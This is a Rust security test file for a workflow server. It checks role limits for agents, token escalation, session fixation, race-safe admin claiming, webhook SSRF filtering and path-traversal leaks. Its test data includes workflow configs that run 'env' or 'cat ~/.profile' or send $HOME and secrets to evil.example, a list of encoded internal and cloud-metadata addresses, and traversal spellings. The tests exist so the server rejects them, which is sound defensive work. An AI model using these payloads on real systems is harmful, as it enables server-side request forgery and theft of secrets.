//! Attacks by those who may come in: agents, programs with narrow tokens, and people with a lower role.

use app::people::{UserKind, UserRole};
use serde_json::{Value, json};

use crate::test_server::{CheckedAnswer, TestServer};

const PASSWORD: &str = "five words that no one puts together";

/// A request with a bearer token and JSON.
async fn with_token(server: &TestServer, token: &str, line: &str, body: Value) -> CheckedAnswer {
    let bearer = format!("Bearer {token}");
    let headers = [
        ("authorization", bearer.as_str()),
        ("content-type", "application/json"),
    ];
    let text = body.to_string();
    let text = (!body.is_null()).then_some(text.as_str());
    server.send(line, &headers, text).await
}

async fn add_agent(server: &TestServer, slug: &str, role: UserRole) -> String {
    let prompt = "You help.".to_owned();
    let nature = UserKind::Agent { prompt };
    server.add_user(slug, role, nature).await
}

/// An agent must not become the one whom a person's task waits for.
#[tokio::test]
async fn no_agent_answers_for_a_person() {
    let server = TestServer::start().await;
    for role in [UserRole::Operator, UserRole::Admin] {
        let name = format!("robot-{}", role.as_str());
        let token = add_agent(&server, &name, role).await;
        let run = server.start_review().await;
        let task = format!("/api/v1/tasks/{run}%2FA");
        let yes = json!({ "output": { "ok": true } });
        for (line, body) in [
            (format!("POST {task}/answer"), yes.clone()),
            (format!("POST {task}/accept"), Value::Null),
            (format!("POST {task}/assign"), json!({ "assignee": name })),
            (
                format!("POST {task}/assign"),
                json!({ "assignee": "operator" }),
            ),
            (format!("POST {task}/answer"), yes.clone()),
            (format!("POST {task}/fail"), json!({ "reason": "no" })),
        ] {
            let answered = with_token(&server, &token, &line, body).await;
            assert_eq!(answered.status, 403, "{name}: {line}: {answered:?}");
        }
        let own = json!({ "workflow": "review", "assignee": name });
        let started = with_token(&server, &token, "POST /api/v1/runs", own).await;
        assert_eq!(started.status, 403, "{started:?}");
        let own = json!({ "title": "Approve", "workflowId": "review", "assignee": name });
        let added = with_token(&server, &token, "POST /api/v1/tasks", own).await;
        assert_eq!(added.status, 403, "{added:?}");
        // Work for people stays possible, and so does work for agents.
        let theirs = json!({ "workflow": "review", "assignee": "operator" });
        let started = with_token(&server, &token, "POST /api/v1/runs", theirs).await;
        assert_eq!(started.status, 201, "{started:?}");
    }
}

/// Texts over the network act only as far as the project does already, unless an admin lets them.
#[tokio::test]
async fn only_an_admin_makes_workflows_act_in_new_ways() {
    let server = TestServer::start().await;
    let agent = add_agent(&server, "robot", UserRole::Admin).await;
    let step = |config: &str| {
        format!(
            "graph TD\n A[Do it]\n%% === WORKFLOW_CONFIG ===\n%% @A: {config}\n%% === END_CONFIG ===\n"
        )
    };
    let acting = [
        step(r#"{ "handler": "command", "config": { "run": "cat ~/.profile" } }"#),
        step(r#"{ "handler": "command", "config": { "argv": ["env"] } }"#),
        step(
            r#"{ "handler": "http", "config": { "url": "https://evil.example/", "headers": { "x": "$HOME" } } }"#,
        ),
        step(
            r#"{ "handler": "http", "config": { "url": "https://evil.example/", "body": "{{secrets.HOME}}" } }"#,
        ),
        step(
            r#"{ "handler": "validation", "prompt": "Look", "config": { "validation_criteria": [{ "run": "env" }] } }"#,
        ),
    ];
    let new = ("if-match", "\"new\"");
    for (at, text) in acting.iter().enumerate() {
        let line = format!("PUT /api/v1/workflows/evil{at}");
        let body = json!({ "text": text });
        let saved = server
            .ask_with(UserRole::Operator, &line, &[new], body.clone())
            .await;
        assert_eq!(saved.code(), "forbidden", "{text}: {saved:?}");
        let import = json!({ "document": text, "name": format!("evil{at}") });
        let line = "POST /api/v1/workflows/import";
        let imported = server.ask(UserRole::Operator, line, import).await;
        assert_eq!(imported.code(), "forbidden", "{text}: {imported:?}");
        let file = format!(".drawloom/workflows/evil{at}.mmd");
        assert!(!server.folder.path().join(file).exists());
    }
    let bearer = format!("Bearer {agent}");
    let headers = [
        ("authorization", bearer.as_str()),
        ("content-type", "application/json"),
        new,
    ];
    let body = json!({ "text": acting[0] }).to_string();
    let line = "PUT /api/v1/workflows/robots";
    let saved = server.send(line, &headers, Some(&body)).await;
    assert_eq!(saved.code(), "forbidden", "an agent: {saved:?}");
    let line = "PUT /api/v1/workflows/fine";
    let saved = server
        .ask_with(UserRole::Admin, line, &[new], json!({ "text": acting[1] }))
        .await;
    assert_eq!(saved.status, 201, "{saved:?}");
    // Acts of the project itself stay possible, in this workflow and in others.
    let around = acting[1].replace("A[Do it]", "B(Look) --> A[Do it now]");
    let seen = [("if-match", saved.header("etag"))];
    let edited = server
        .ask_with(
            UserRole::Operator,
            line,
            &seen,
            json!({ "text": around.clone() }),
        )
        .await;
    assert_eq!(edited.status, 200, "{edited:?}");
    let line = "PUT /api/v1/workflows/copy";
    let copied = server
        .ask_with(UserRole::Operator, line, &[new], json!({ "text": around }))
        .await;
    assert_eq!(copied.status, 201, "{copied:?}");
}

/// A token that gets into wrong hands must not become a better one.
#[tokio::test]
async fn a_token_makes_none_that_may_do_more() {
    let server = TestServer::start().await;
    let made = json!({ "name": "narrow", "role": "operator", "scopes": ["tokens", "runs.read"], "days": 2 });
    let line = "POST /api/v1/tokens";
    let made = server.done(UserRole::Operator, line, made).await;
    let narrow = made["secret"].as_str().unwrap();
    let tried = [
        (json!({ "name": "a", "role": "operator" }), 403),
        (json!({ "name": "b", "scopes": ["runs"], "days": 1 }), 403),
        (json!({ "name": "c", "scopes": ["read"], "days": 1 }), 403),
        (
            json!({ "name": "d", "scopes": ["runs.read"], "days": 3 }),
            403,
        ),
        (json!({ "name": "e", "scopes": ["runs.read"] }), 403),
        (
            json!({ "name": "f", "scopes": ["runs.read", "tokens.read"], "days": 1 }),
            201,
        ),
    ];
    for (body, status) in tried {
        let answered = with_token(&server, narrow, line, body.clone()).await;
        assert_eq!(answered.status, status, "{body}: {answered:?}");
    }
    let agent = add_agent(&server, "robot", UserRole::Admin).await;
    let others = json!({ "name": "as-ada", "user": "admin", "role": "admin" });
    let answered = with_token(&server, &agent, line, others).await;
    assert_eq!(answered.status, 403, "{answered:?}");
}

/// Two users, or two programs of one user, may choose the same key.
#[tokio::test]
async fn an_idempotency_key_is_its_senders_own() {
    let server = TestServer::start().await;
    let other = json!({ "name": "other", "role": "operator", "days": 1 });
    let line = "POST /api/v1/tokens";
    let other = server.done(UserRole::Operator, line, other).await;
    let key = [("idempotency-key", "the-same-key")];
    let body = json!({ "workflow": "review", "input": { "what": "it" } });
    let line = "POST /api/v1/runs";
    let mut runs = Vec::new();
    for role in [UserRole::Admin, UserRole::Operator] {
        let started = server.ask_with(role, line, &key, body.clone()).await;
        assert_eq!(started.status, 201, "{started:?}");
        assert_eq!(started.header("idempotency-replayed"), "");
        runs.push(started.body["runs"][0].clone());
    }
    let bearer = format!("Bearer {}", other["secret"].as_str().unwrap());
    let headers = [
        ("authorization", bearer.as_str()),
        ("content-type", "application/json"),
        key[0],
    ];
    let text = body.to_string();
    let started = server.send(line, &headers, Some(&text)).await;
    runs.push(started.body["runs"][0].clone());
    runs.sort_by_key(Value::to_string);
    runs.dedup();
    assert_eq!(runs.len(), 3, "{runs:?}");
    // Who may not do it does not get the answer of one who may.
    let viewer = server
        .ask_with(UserRole::Viewer, line, &key, body.clone())
        .await;
    assert_eq!(viewer.status, 403, "{viewer:?}");
    // Another route with the same key and body is another request.
    let line = "POST /api/v1/tasks";
    let reused = server.ask_with(UserRole::Admin, line, &key, body).await;
    assert_eq!(reused.code(), "idempotency_key_reused", "{reused:?}");
}

/// A cookie that another person has put into the browser is never the session.
#[tokio::test]
async fn a_session_begins_with_a_secret_of_its_own() {
    let server = TestServer::start().await;
    let access = server.app.access_control();
    let terminal = server.app.acting(server.app.terminal());
    let people = app::people::UserFilter::People;
    let user = terminal.user(&"viewer".parse().unwrap(), people).await;
    access.set_password(&user.unwrap(), PASSWORD).await.unwrap();
    let body = json!({ "email": "viewer@example.org", "password": PASSWORD }).to_string();
    let fixed = format!("drawloom_session={}", "a".repeat(64));
    let mut seen = vec![fixed.clone()];
    for _ in 0..3 {
        // The browser sends what it has: first what the attacker chose, then its last session.
        let headers = [
            ("content-type", "application/json"),
            ("cookie", seen[seen.len() - 1].as_str()),
        ];
        let line = "POST /api/v1/session";
        let signed_in = server.send(line, &headers, Some(&body)).await;
        assert_eq!(signed_in.status, 200, "{signed_in:?}");
        let cookie = signed_in.header("set-cookie").split(';').next().unwrap();
        assert!(!seen.iter().any(|one| one == cookie), "{cookie}");
        seen.push(cookie.to_owned());
    }
    let me = |cookie: String| {
        let server = &server;
        async move {
            let with = [("cookie", cookie.as_str())];
            server.send("GET /api/v1/session", &with, None).await.status
        }
    };
    assert_eq!(me(fixed).await, 401);
    for cookie in &seen[1..] {
        assert_eq!(me(cookie.clone()).await, 200);
    }
    // A new password ends every session of the person.
    let link = access.make_reset_link(&"viewer".parse().unwrap()).await;
    let secret = link.unwrap().reveal();
    let reset = json!({ "link": secret, "password": PASSWORD }).to_string();
    let headers = [("content-type", "application/json")];
    let done = server
        .send("POST /api/v1/password", &headers, Some(&reset))
        .await;
    assert_eq!(done.status, 200);
    for cookie in &seen[1..] {
        assert_eq!(me(cookie.clone()).await, 401);
    }
}

/// Of many who follow different links at the same moment, one becomes the admin.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fresh_server_has_one_admin_however_many_claim_it() {
    use crate::test_server::limits;
    for _ in 0..5 {
        let server = TestServer::empty(None, limits()).await;
        let access = server.app.access_control();
        let mut links = Vec::new();
        for _ in 0..8 {
            links.push(access.make_claim_link().await.unwrap().unwrap().reveal());
        }
        let claims = links.iter().enumerate().map(|(at, link)| {
            let access = access.clone();
            let (link, email) = (link.clone(), format!("person{at}@example.org"));
            tokio::spawn(async move { access.claim(&link, &email, PASSWORD).await.is_ok() })
        });
        let claims: Vec<_> = claims.collect();
        let mut admins = 0;
        for claim in claims {
            admins += usize::from(claim.await.unwrap());
        }
        let terminal = server.app.acting(server.app.terminal());
        let people = terminal.users(app::people::UserFilter::Everybody).await;
        assert_eq!((admins, people.unwrap().len()), (1, 1));
        for link in &links {
            assert!(access.find_link(link).await.unwrap().is_none());
        }
    }
}

/// Spellings of addresses that are not public; the settings of these tests allow 127.0.0.1 only.
const PRIVATE_ADDRESSES: [&str; 34] = [
    "http://127.0.0.2/",
    "http://127.1.1.1:8080/",
    "http://2130706434/",
    "http://0x7f000002/",
    "http://0x7f.0.0.2/",
    "http://0177.0.0.2/",
    "http://017700000002/",
    "http://127.0.2/",
    "http://127.2/",
    "http://0/",
    "http://0.0.0.0/",
    "http://0x0/",
    "http://10.0.0.1/",
    "http://010.0.0.1@10.0.0.1/",
    "http://167772161/",
    "http://172.16.0.1/",
    "http://192.168.1.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://0xa9fea9fe/",
    "http://2852039166/",
    "http://0251.0376.0251.0376/",
    "http://100.100.100.200/",
    "http://[::]/",
    "http://[::1]/",
    "http://[0:0:0:0:0:0:0:1]/",
    "http://[::ffff:127.0.0.2]/",
    "http://[::ffff:7f00:2]/",
    "http://[::127.0.0.2]/",
    "http://[fe80::1]/",
    "http://[fd00:ec2::254]/",
    "http://[64:ff9b::a9fe:a9fe]/",
    "http://[64:ff9b:1::a9fe:a9fe]/",
    "http://[2002:a9fe:a9fe::]/",
    "http://\u{2460}\u{2461}\u{2466}.0.0.2/",
];

/// Texts that are no address to send messages to at all.
const NO_ADDRESSES: [&str; 8] = [
    "file:///etc/passwd",
    "gopher://example.org/",
    "ftp://example.org/",
    "unix:/run/docker.sock",
    "//example.org/",
    "http://user:password@example.org/",
    "javascript:alert(1)",
    "http://exa mple.org/",
];

#[tokio::test]
async fn webhooks_are_not_sent_to_addresses_that_are_not_public() {
    let server = TestServer::start().await;
    let line = "POST /api/v1/webhooks";
    for url in PRIVATE_ADDRESSES.into_iter().chain(NO_ADDRESSES) {
        let added = server
            .ask(UserRole::Admin, line, json!({ "url": url }))
            .await;
        assert_eq!(added.status, 422, "{url}: {added:?}");
    }
    let line = "PATCH /api/v1/webhooks/1";
    let added = json!({ "url": "http://127.0.0.1:9/" });
    let added = server
        .ask(UserRole::Admin, "POST /api/v1/webhooks", added)
        .await;
    let seen = [("if-match", added.header("etag"))];
    for url in PRIVATE_ADDRESSES {
        let body = json!({ "url": url });
        let edited = server.ask_with(UserRole::Admin, line, &seen, body).await;
        assert_eq!(edited.status, 422, "{url}: {edited:?}");
    }
}

/// The text of a workflow must not tell what is on the machine, to a viewer least of all.
#[tokio::test]
async fn no_text_of_a_workflow_looks_outside_of_the_project() {
    let server = TestServer::start().await;
    let outside = tempfile::tempdir().unwrap();
    let there = outside.path().join("there");
    std::fs::create_dir(&there).unwrap();
    let secret = "name: x\nCANARY_KEY: 1\nsteps:\n  - canary: yes\n";
    std::fs::write(there.join("recipe.yml"), secret).unwrap();
    std::fs::write(there.join("key.txt"), "CANARY_LINE: [\n").unwrap();
    let folder = outside.path().display().to_string();
    let inside = server.folder.path().canonicalize().unwrap();
    let up = "../".repeat(inside.components().count());
    let mut told = std::collections::BTreeSet::new();
    for name in [
        "there",
        "there/recipe.yml",
        "there/key.txt",
        "missing",
        "missing/x",
    ] {
        for (base, spelled) in [
            (&folder, format!("{folder}/{name}")),
            (&folder, format!("{up}{folder}/{name}")),
            (&folder, format!("./{up}{folder}/{name}")),
            (&folder, format!("file://{folder}/{name}")),
            (&folder, format!("/proc/self/root{folder}/{name}")),
        ] {
            let config = json!({ "handler": "recipe", "config": { "recipe": spelled, "values": { "zz": 1 } } });
            let text = format!(
                "graph TD\n A[x]\n%% === WORKFLOW_CONFIG ===\n%% @A: {config}\n%% === END_CONFIG ===\n"
            );
            let line = "POST /api/v1/workflows/check";
            let checked = server
                .ask(UserRole::Viewer, line, json!({ "text": text }))
                .await;
            let said = checked.body["problems"].to_string();
            assert_ne!(said, "[]", "{spelled}: {checked:?}");
            assert!(!said.contains("CANARY"), "{spelled}: {said}");
            let anyhow = said
                .replace(&spelled, "NAME")
                .replace(base.as_str(), "BASE");
            let same: String = anyhow.chars().filter(|c| !c.is_ascii_digit()).collect();
            if !spelled.starts_with("file:") {
                told.insert(same);
            }
        }
    }
    // The same words tell of files that are there and of files that are not.
    assert_eq!(told.len(), 1, "{told:?}");
}
